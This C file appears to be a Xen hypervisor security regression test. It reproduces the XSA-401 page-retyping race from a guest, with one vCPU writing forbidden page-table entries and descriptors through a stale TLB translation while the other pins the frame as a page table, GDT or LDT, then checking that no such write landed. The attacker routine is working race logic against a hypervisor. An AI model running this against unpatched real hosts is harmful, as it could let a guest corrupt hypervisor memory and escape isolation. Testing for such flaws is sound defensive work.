// SPDX-License-Identifier: GPL-2.0-only
/*
 * attack-retype-race: XSA-401's race from a guest. A frame becomes a page
 * table while the domain's other vCPU keeps a writable translation to it
 * in its TLB: once the pin has validated the frame, no CPU may still
 * write it.
 *
 * A domain with two vCPUs (pinned to CPUs 0 and 1 at --smp 2). Round t uses a
 * frame F nothing maps (pfn BASE + t, zeroed first). vCPU 1 writes BAD
 * (an entry mapping writable a page pinned as an L2, refused in an L1 and
 * in an L2, quietly on Xen: a hypervisor frame there fills Xen's log)
 * into one of F's first SLOTS entries through its window W (through a
 * stale translation, or the write faults and is skipped); then, unless
 * told to stop, maps F writable at W (update_va_mapping with a flush),
 * zeroes those entries through it, clears W's entry WITHOUT a flush (the
 * translation stays cached) and goes round again, CYCLES times; then,
 * once one more such map has zeroed F, it waits with F clean and the
 * translation cached, and once told to stop
 * writes BAD through W one last time. vCPU 0 pins F (an L1 in rounds
 * 1, 5, 9, ..., an L2 in rounds 2, 6, 10, ...) until a pin succeeds, then tells vCPU 1 to
 * stop, waits for it, and reads F read-only: the pin validated F with no
 * BAD in it, so a BAD now is a write after the frame became a table
 * (the hypervisor must flush every TLB once the frame holds its new type
 * and before it reads an entry). Then F is unpinned. With one CPU the
 * two vCPUs take turns. vCPU 0 starts pinning once vCPU 1 has mapped F
 * once in the round.
 * dom0 runs the rounds, then builds a domU of two vCPUs (pinned to CPUs 0
 * and 1 by dom0) that runs them on its own frames; its verdict counts.
 * Rounds 3, 7, 11, ... do the same to a descriptor page: vCPU 0 makes F
 * its GDT (set_gdt, one frame, retried while W maps F) and vCPU 1
 * writes BAD_DESC (a present 64-bit TSS descriptor, a system segment
 * every PV GDT refuses) through its stale translation; a nonzero entry in
 * F after set_gdt succeeded is the same write after the type change.
 * vCPU 0 then gives the frame back (set_gdt to no frames).
 * Rounds 4, 8, 12, ... race the same through the LDT (5 Dec): vCPU 0
 * maps F read-only at L, makes L its LDT (MMUEXT_SET_LDT, 512 entries;
 * F's last entry a DPL 3 data descriptor) and loads %fs from that entry
 * until the load goes through: each try faults on the LDT page, whose
 * mapping takes the descriptor type and checks F (pv_ldt_fault, Xen's
 * pv_map_ldt_shadow_page), and the guest gets the #PF while F is
 * writable or a table elsewhere. vCPU 1 writes BAD_DESC as above and,
 * every fourth cycle after zeroing F, pins it as an L1 and unpins it (a
 * table type between the writable ones, its translation cached through
 * both). A nonzero entry among
 * the first SLOTS after the load, or %fs not holding the selector, is
 * a write after the type change (or a descriptor loaded unchecked).
 * vCPU 0 then loads %fs 0 and clears the LDT.
 * @hvargs: dom0_max_vcpus=2
 * @timeout-smp: 300
 * @initrd: self
 * @expect-log: mm audit d0: ok
 */
#include "lib/guest.h"
#include "lib/mm.h"
#include "lib/smp.h"
#include "lib/traps.h"
#include "lib/physinfo.h"
#include "lib/events.h"
#include "lib/peer_smp.h"
#include "lib/wait.h"

#define BASE		2048		/* pfns nothing maps: above the boot region */
#define ROUNDS		480		/* L1, L2, GDT and LDT rounds by turns */
#define BAD_DESC	0x0000890000000067ULL	/* present TSS: refused in a PV GDT or LDT */
/* The LDT's entry 511: flat data, DPL 3; limit bit 0 clear, so not present as a PTE. */
#define LDT_DATA3	0x00cff3000000fffeULL
#define LDT_SEL		((511 << 3) | 4 | 3)	/* entry 511, LDT, RPL 3 */
#define SLOTS		8
#define CYCLES		64		/* vCPU 1's map-write-unmap rounds a round */
#define MIN_TRIES	1000000	/* and WAIT_CYCLES: a loaded host may hold vCPU 1 back a while */
#define STACK_SIZE	8192

static uint8_t stack1[STACK_SIZE] __attribute__((aligned(16)));
static const uint64_t *p2m;
static uint64_t window, reader, ldt_va, bad, victim;
static volatile uint64_t bad_now;	/* what vCPU 1 writes this round */
static bool one_cpu;
static volatile unsigned int stop_at, stopped_at, mapped_in;
static volatile unsigned long stale_writes, faults, maps, pins, ldt_faults;
static long pin_rc[ROUNDS + 1];
static unsigned int found[ROUNDS + 1];

enum kind { LDT, L1, L2, GDT };

static enum kind kind_of(unsigned int t)
{
	return (enum kind)(t % 4);
}

/* *va = v; false if the store faulted (the fault skipped). */
static bool write_or_fault(volatile uint64_t *va, uint64_t v)
{
	uint64_t done = 0;

	asm volatile("1: mov %2, (%1)\n movq $1, %0\n2:\n"
		     ".pushsection .fixup, \"a\"\n.balign 8\n.quad 1b, 2b\n.popsection"
		     : "+r"(done) : "r"(va), "r"(v) : "memory");
	return done;
}

/* %fs = sel; false if the load faulted (the fault skipped). */
static bool load_fs_or_fault(uint16_t sel)
{
	uint64_t done = 0;

	asm volatile("1: mov %1, %%fs\n movq $1, %0\n2:\n"
		     ".pushsection .fixup, \"a\"\n.balign 8\n.quad 1b, 2b\n.popsection"
		     : "+r"(done) : "r"((uint32_t)sel) : "memory");
	return done;
}

/* An LDT round's other action: F pinned as an L1 and unpinned (refused while BAD is in it). */
static void pin_unpin(uint64_t f)
{
	if (!mmuext_fd(MMUEXT_PIN_L1_TABLE, f, 0, DOMID_SELF)) {
		pins++;
		mmuext_fd(MMUEXT_UNPIN_TABLE, f, 0, DOMID_SELF);
	}
}

static void attacker(unsigned int t)
{
	static bool traps;
	uint64_t f = p2m[BASE + t];
	volatile uint64_t *w = (volatile uint64_t *)window;
	unsigned int k = 0, i;
	bool clean = false;	/* zeroed after the last BAD */

	if (!traps && traps_install(true) == 0)
		traps = true;
	for (;; k++) {
		/* Once more after the pin succeeded: that one must fault. */
		if (k < CYCLES || stop_at == t) {
			if (write_or_fault(&w[k % SLOTS], bad_now))
				stale_writes++;
			else
				faults++;
		}
		if (stop_at == t)
			break;
		if (k >= CYCLES && clean) {	/* F left clean, the translation cached */
			if (one_cpu)
				HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
			asm volatile("pause");
			continue;
		}
		if (!update_va_mapping(window, pte_rw(f), UVMF_INVLPG)) {
			for (i = 0; i < SLOTS; i++)
				w[i] = 0;
			update_va_mapping(window, 0, UVMF_NONE);	/* no flush */
			maps++;
			mapped_in = t;
			clean = k >= CYCLES;
		}
		if (kind_of(t) == LDT && k < CYCLES && k % 4 == 3)
			pin_unpin(f);	/* F clean, its translation still cached */
		if (one_cpu)
			HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
	}
	update_va_mapping(window, 0, UVMF_INVLPG);
	stopped_at = t;
}

/* One try at giving F its new type: 0 once it has it. */
static long take_type(enum kind k, uint64_t f)
{
	if (k == GDT)
		return hypercall2(__HYPERVISOR_set_gdt, (uint64_t)&f, 512);
	if (k == LDT) {
		if (load_fs_or_fault(LDT_SEL))
			return 0;
		ldt_faults++;
		return -EFAULT;
	}
	return mmuext_fd(k == L1 ? MMUEXT_PIN_L1_TABLE : MMUEXT_PIN_L2_TABLE, f, 0, DOMID_SELF);
}

/* F's new type given up: nonzero on failure. */
static long drop_type(enum kind k, uint64_t f)
{
	uint64_t none = 0;

	if (k == GDT)
		return hypercall2(__HYPERVISOR_set_gdt, (uint64_t)&none, 0);
	if (k == LDT) {
		load_fs_or_fault(0);
		return mmuext_fd(MMUEXT_SET_LDT, 0, 0, DOMID_SELF);
	}
	return mmuext_fd(MMUEXT_UNPIN_TABLE, f, 0, DOMID_SELF);
}

static void race(unsigned int me, unsigned int t)
{
	uint64_t f = p2m[BASE + t];
	enum kind k = kind_of(t);
	uint64_t start = wait_tsc();
	unsigned int n = 0, i;
	bool no_ldt = false;
	uint16_t fs = 0;
	long rc;

	if (me == 1) {
		attacker(t);
		return;
	}
	while (mapped_in != t)	/* a stale translation exists first */
		HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
	if (k == LDT && (update_va_mapping(ldt_va, pte_ro(f), UVMF_INVLPG) ||
			 mmuext_fd(MMUEXT_SET_LDT, ldt_va, 512, DOMID_SELF)))
		no_ldt = true;	/* no LDT: the round fails */
	do {
		rc = take_type(k, f);
		if (rc && one_cpu)
			HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
	} while (rc && !no_ldt && (++n < MIN_TRIES || wait_time_left(start)));
	if (k == LDT)
		asm volatile("mov %%fs, %0" : "=r"(fs));
	pin_rc[t] = rc;
	stop_at = t;
	while (stopped_at != t)
		HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
	if (rc)
		return;
	if (!update_va_mapping(reader, pte_ro(f), UVMF_INVLPG)) {
		for (i = 0; i < SLOTS; i++)
			found[t] += ((volatile uint64_t *)reader)[i] != 0;
		update_va_mapping(reader, pte_rw(va_to_mfn(reader)), UVMF_INVLPG);
	} else {
		found[t] = 1000;	/* could not look */
	}
	if (k == LDT && fs != LDT_SEL)
		found[t] += 100;	/* the load went through without the selector */
	pin_rc[t] = drop_type(k, f) ? 1 : 0;
}

static struct smp_rounds rounds = { race, 1, ROUNDS + 1, false, 0, 0, false };
static char why[VERDICT_LEN];

/* vCPU 1 started on the rounds (dom0 pins its own two vCPUs, the peer's are dom0's to pin). */
static long start_vcpu1(const struct start_info *si)
{
	long rc;

	smp_rounds_now = &rounds;
	rounds.one_cpu = one_cpu;
	rc = smp_start_vcpu(si, 1, smp_rounds_vcpu1_start, stack1, sizeof(stack1));
	if (rc)
		return rc;
	while (!rounds.started)
		HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
	if (one_cpu || !(si->flags & SIF_INITDOMAIN))
		return 0;
	rc = smp_pin_vcpu(0, 0);
	return rc ? rc : smp_pin_vcpu(1, 1);
}

/* The rounds, in dom0 or in the peer: NULL, or why they failed. */
static const char *body(struct start_info *si, bool one)
{
	unsigned int t;
	long rc;

	one_cpu = one;
	BODY_CHECK(si->nr_pages >= BASE + ROUNDS + 1, "%lu pages", si->nr_pages);
	BODY_CHECK(traps_install(true) == 0, "set_trap_table failed");
	p2m = (const uint64_t *)si->mfn_list;
	window = scratch_page();
	reader = scratch_page();
	ldt_va = scratch_page();
	victim = table_page(0);
	BODY_CHECK(mmuext_fd(MMUEXT_PIN_L2_TABLE, victim, 0, DOMID_SELF) == 0, "pinning the victim failed");
	bad = pte_rw(victim);
	update_va_mapping(window, 0, UVMF_INVLPG);
	for (t = 1; t <= ROUNDS; t++) {
		BODY_CHECK(update_va_mapping(reader, pte_rw(p2m[BASE + t]), UVMF_INVLPG) == 0,
		    "mapping frame %u to zero it failed", t);
		memset((void *)reader, 0, 4096);
		if (kind_of(t) == LDT)
			((uint64_t *)reader)[511] = LDT_DATA3;
	}
	update_va_mapping(reader, pte_rw(va_to_mfn(reader)), UVMF_INVLPG);
	rc = start_vcpu1(si);
	BODY_CHECK(rc == 0, "starting and pinning vCPU 1 gave %ld", rc);
	for (t = 1; t <= ROUNDS; t++) {
		bad_now = kind_of(t) == GDT || kind_of(t) == LDT ? BAD_DESC : bad;
		rounds.go = t;
		race(0, t);
		while (rounds.done1 != t)
			HYPERVISOR_sched_op(SCHEDOP_yield, NULL);
	}
	printf("attack-retype-race: %u rounds, vCPU 1 mapped %lu times, %lu writes through "
	       "a cleared entry landed, %lu faulted, %lu L1 pins in LDT rounds; %lu LDT loads "
	       "faulted\n", ROUNDS, maps, stale_writes, faults, pins, ldt_faults);
	update_va_mapping(ldt_va, pte_rw(va_to_mfn(ldt_va)), UVMF_INVLPG);
	BODY_CHECK(mmuext_fd(MMUEXT_UNPIN_TABLE, victim, 0, DOMID_SELF) == 0, "unpinning the victim failed");
	for (t = 1; t <= ROUNDS; t++) {
		BODY_CHECK(pin_rc[t] == 0, "round %u: the pin never succeeded or the unpin failed (%ld)", t,
		    pin_rc[t]);
		BODY_CHECK(found[t] == 0, "round %u: %u entries written after the frame took its new type", t,
		    found[t]);
	}
	return NULL;
}

int test_main(struct start_info *si)
{
	return verdict_test_smp(si, body);
}
